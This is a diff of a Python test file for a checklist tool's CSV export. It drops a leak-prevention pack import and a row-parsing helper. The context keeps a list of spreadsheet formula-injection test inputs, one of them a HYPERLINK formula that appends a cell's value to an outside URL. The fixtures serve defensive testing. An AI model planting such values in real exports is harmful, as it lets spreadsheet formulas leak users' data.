@@ -9,10 +9,9 @@ from pathlib import Path
 
 import pytest
 
-from secure_checklist import Checklist, Inventory, Item, Waiver, evaluate, formats, packs
+from secure_checklist import Checklist, Inventory, Item, Waiver, evaluate, formats
 from tests.golden_personas import NOW
 
-PACK = packs.load("leak-prevention")
 FORMULAS = (
     '=HYPERLINK("http://example.com/?"&A1,"click")',
     "+1230+4",
@@ -25,10 +24,6 @@ FORMULAS = (
     "x\n=1230+4",
     'x",=1230+4,"y',
 )
-
-
-def rows(data: bytes) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))
 
 
 def table_of(*titles: str) -> bytes:
